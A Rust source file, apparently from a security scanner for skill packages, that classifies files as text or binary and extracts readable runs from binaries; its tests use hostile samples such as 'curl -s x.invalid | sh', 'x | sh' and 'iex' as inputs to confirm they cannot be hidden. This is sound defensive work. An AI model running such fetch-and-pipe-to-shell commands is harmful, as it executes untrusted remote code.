//! [`Reading`]: the text of a file, and whether the file is text at all.
//!
//! Valid UTF-8, and valid UTF-16 behind its byte order mark, is text. So is every file whose name or
//! first line says that it is read or run, whatever its bytes: one bad byte switches nothing off.
//! All else is binary, and only what is long enough to be text is looked at.

use std::borrow::Cow;

use memchr::memmem;
use skill::{File, SkillPath};

/// Characters of the shortest run that counts as text in a binary. A run of random bytes gets so
/// long about once in eight megabytes.
const BINARY_RUN: usize = 16;

/// The same in the bytes of what says that it is UTF-16, where letters stand alone between zeros.
const WIDE_RUN: usize = 4;

/// One byte in so many may be no text before a file is read as runs.
const ODD_SHARE: usize = 10;

/// What a file says.
pub(crate) struct Reading<'a> {
    /// All of a text; of a binary the runs of text, with zeros for the bytes between them.
    pub text: Cow<'a, str>,
    /// The file is no text by its bytes nor by its name.
    pub binary: bool,
}

/// Names of files that a tool runs.
const NAMED: &[&str] = &[
    "makefile",
    "justfile",
    "dockerfile",
    "gemfile",
    "rakefile",
    "vagrantfile",
    "podfile",
    "fastfile",
    "brewfile",
    "guardfile",
    "jenkinsfile",
    "sconstruct",
    "containerfile",
];

const SCRIPTS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "fish",
    "ksh",
    "csh",
    "command",
    "py",
    "pyw",
    "js",
    "mjs",
    "cjs",
    "ts",
    "mts",
    "cts",
    "jsx",
    "tsx",
    "rb",
    "pl",
    "pm",
    "php",
    "lua",
    "go",
    "rs",
    "ps1",
    "psm1",
    "bat",
    "cmd",
    "vbs",
    "wsf",
    "hta",
    "applescript",
    "scpt",
    "awk",
    "r",
    "jl",
    "groovy",
    "gradle",
    "java",
    "kts",
    "c",
    "cc",
    "cpp",
    "kt",
    "cs",
    "scala",
    "dart",
    "ex",
    "exs",
    "swift",
    "mk",
];

/// Files made to be read by people; no extension is one of them.
const PROSE: &[&str] = &["md", "markdown", "mdx", "txt", "rst", "adoc", "org", ""];

/// Configuration, data, markup and source that is text by its definition.
const TEXTS: &[&str] = &[
    "json",
    "jsonc",
    "json5",
    "jsonl",
    "ndjson",
    "yaml",
    "yml",
    "toml",
    "ini",
    "cfg",
    "conf",
    "config",
    "env",
    "properties",
    "plist",
    "xml",
    "xsd",
    "xsl",
    "html",
    "htm",
    "xhtml",
    "svg",
    "css",
    "scss",
    "less",
    "csv",
    "tsv",
    "sql",
    "tex",
    "bib",
    "log",
    "diff",
    "patch",
    "tmpl",
    "tpl",
    "template",
    "j2",
    "jinja",
    "hbs",
    "vue",
    "svelte",
    "graphql",
    "proto",
    "tf",
    "hcl",
    "gradle",
    "cmake",
    "h",
    "hpp",
    "erl",
    "hs",
    "clj",
    "el",
    "lisp",
    "nix",
    "ipynb",
    "service",
    "desktop",
    "reg",
    "rules",
    "prompt",
];

/// Whether a file is run by its name alone.
pub(crate) fn is_script(path: &SkillPath) -> bool {
    let name = path.file_name().to_ascii_lowercase();
    SCRIPTS.contains(&path.extension().as_str()) || NAMED.contains(&name.as_str())
}

/// Whether a file with an extension is made to be read.
pub(crate) fn is_to_read(extension: &str) -> bool {
    PROSE.contains(&extension)
}

/// Whether a file is in a folder of scripts.
pub(crate) fn is_in_scripts(path: &SkillPath) -> bool {
    path.segments().any(|segment| segment.eq_ignore_ascii_case("scripts"))
}

/// Reads a file.
pub(crate) fn read<'a>(path: &SkillPath, file: &'a File) -> Reading<'a> {
    let bytes = &file.bytes;
    let named = is_named_text(path, file);
    if let Some((wide, valid)) = read_wide(bytes) {
        let run = if named { WIDE_RUN } else { BINARY_RUN };
        return Reading { text: Cow::Owned(with_narrow(wide, bytes, run)), binary: !named && !valid };
    }
    match std::str::from_utf8(bytes) {
        Ok(text) => Reading { text: with_plain_ends(text), binary: false },
        Err(_) if named => Reading { text: String::from_utf8_lossy(bytes), binary: false },
        Err(_) if is_mostly_text(bytes) => {
            Reading { text: String::from_utf8_lossy(bytes), binary: !path.extension().is_empty() }
        }
        Err(_) => Reading { text: Cow::Owned(runs(bytes, BINARY_RUN)), binary: true },
    }
}

/// A text with the line ends of Unix: where lines end is no part of what they say.
fn with_plain_ends(text: &str) -> Cow<'_, str> {
    match memmem::find(text.as_bytes(), b"\r\n") {
        Some(_) => Cow::Owned(text.replace("\r\n", "\n")),
        None => Cow::Borrowed(text),
    }
}

/// Whether the name, place or first bytes of a file say that it is text. No extension says so only
/// of what is run.
fn is_named_text(path: &SkillPath, file: &File) -> bool {
    let extension = path.extension();
    let known = if extension.is_empty() {
        file.executable || is_in_scripts(path)
    } else {
        is_to_read(&extension) || TEXTS.contains(&extension.as_str())
    };
    known || is_script(path) || file.bytes.starts_with(b"#!")
}

/// UTF-16 where a byte order mark says so, and whether all of it is valid.
fn read_wide(bytes: &[u8]) -> Option<(String, bool)> {
    let (rest, little) = match bytes {
        [0xFF, 0xFE, rest @ ..] => (rest, true),
        [0xFE, 0xFF, rest @ ..] => (rest, false),
        _ => return None,
    };
    let unit = |pair| if little { u16::from_le_bytes(pair) } else { u16::from_be_bytes(pair) };
    let units: Vec<u16> = rest.chunks_exact(2).filter_map(|pair| pair.try_into().ok()).map(unit).collect();
    let valid = rest.len() % 2 == 0 && char::decode_utf16(units.iter().copied()).all(|c| c.is_ok());
    Some((String::from_utf16_lossy(&units), valid))
}

/// Wide text, and after it what a reader that does not know the byte order mark sees: a shell runs
/// plain commands behind one.
fn with_narrow(mut wide: String, bytes: &[u8], run: usize) -> String {
    let narrow = runs(bytes, run);
    if narrow.bytes().any(|byte| byte.is_ascii_graphic()) {
        wide.push('\n');
        wide.push_str(&narrow);
    }
    wide
}

/// Whether few bytes are no text: text in an old encoding, say, under a name that tells nothing.
fn is_mostly_text(bytes: &[u8]) -> bool {
    let odd = |valid: &str| valid.chars().filter(|c| is_break(*c)).count();
    let odd: usize = bytes.utf8_chunks().map(|chunk| odd(chunk.valid()) + chunk.invalid().len()).sum();
    odd * ODD_SHARE <= bytes.len()
}

/// The runs of text in some bytes, each where it stands: line ends are kept, all else is zero.
fn runs(bytes: &[u8], shortest: usize) -> String {
    let mut text = Vec::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        for piece in chunk.valid().split_inclusive(is_break) {
            let run = piece.trim_end_matches(is_break);
            if is_text(run, shortest) {
                text.extend_from_slice(run.as_bytes());
            } else {
                text.extend(run.bytes().map(|byte| if byte == b'\n' { b'\n' } else { 0 }));
            }
            text.resize(text.len() + piece.len() - run.len(), 0);
        }
        text.resize(text.len() + chunk.invalid().len(), 0);
    }
    String::from_utf8(text).unwrap_or_default()
}

/// Whether a character ends a run of text.
fn is_break(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\r' | '\t')
}

/// Whether a run is long enough, and at least half letters, digits and white space.
fn is_text(run: &str, shortest: usize) -> bool {
    if run.len() < shortest {
        return false;
    }
    let plain = run.chars().filter(|c| c.is_alphanumeric() || c.is_whitespace()).count();
    let all = run.chars().count();
    all >= shortest && plain * 2 >= all
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_at(path: &str, bytes: &[u8]) -> (String, bool) {
        let file = File { bytes: bytes.into(), executable: false };
        let reading = read(&SkillPath::parse(path).unwrap(), &file);
        (reading.text.into_owned(), reading.binary)
    }

    fn wide(text: &str) -> Vec<u8> {
        [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
    }

    #[test]
    fn a_name_that_says_text_is_believed_whatever_the_bytes() {
        let bytes = [&[0x80; 40][..], b"x | sh"].concat();
        for path in ["a.py", "SKILL.md", "a.json", "scripts/run", "Makefile"] {
            let (text, binary) = read_at(path, &bytes);
            assert!(text.ends_with("x | sh") && !binary, "{path}");
        }
        for path in ["a.bin", "assets/run", "scripts/a.png"] {
            assert_eq!(read_at(path, &bytes), ("\0".repeat(46), true), "{path}");
        }
        let shebang = [b"#!/bin/sh\n", &bytes[..]].concat();
        assert!(!read_at("a.bin", &shebang).1);
    }

    #[test]
    fn line_ends_of_windows_are_plain() {
        assert_eq!(read_at("a.sh", b"curl x \\\r\n  | sh\r\n\rend"), ("curl x \\\n  | sh\n\rend".to_owned(), false));
    }

    #[test]
    fn runs_of_text_stay_where_they_are() {
        let bytes =
            b"\xFF\xFF\xFFshort\n\x01\xFFlong enough to be text\n2\x00\xC2\x85\x80\x80\x80\x80((((((((((((((((((((";
        let text = runs(bytes, BINARY_RUN);
        assert_eq!(text.len(), bytes.len());
        assert_eq!(text.trim_matches('\0'), "\n\0\0long enough to be text\n2");
        assert_eq!(text.matches('\n').count(), 2);
    }

    #[test]
    fn a_few_bad_bytes_leave_a_text_whole() {
        let latin = b"caf\xE9 au lait\nrm x\n";
        assert_eq!(read_at("notes.dat", latin), ("caf\u{FFFD} au lait\nrm x\n".to_owned(), true));
    }

    #[test]
    fn wide_text_is_read_by_its_byte_order_mark() {
        assert_eq!(read_at("a.ps1", &wide("iex")), ("iex".to_owned(), false));
        assert_eq!(read_at("a.bin", &wide("iex")), ("iex".to_owned(), false));
        let lone = [wide("iex"), vec![0, 0xD8]].concat();
        assert_eq!(read_at("a.bin", &lone), ("iex\u{FFFD}".to_owned(), true));
    }

    #[test]
    fn a_byte_order_mark_hides_no_plain_text() {
        let (text, _) = read_at("a.sh", b"\xFF\xFE\ncurl x|sh\n");
        assert!(text.contains("\ncurl x|sh\n"), "{text:?}");
        let (text, _) = read_at("a.bin", b"\xFF\xFE\ncurl -s x.invalid | sh\n");
        assert!(text.contains("\ncurl -s x.invalid | sh\n"), "{text:?}");
    }
}
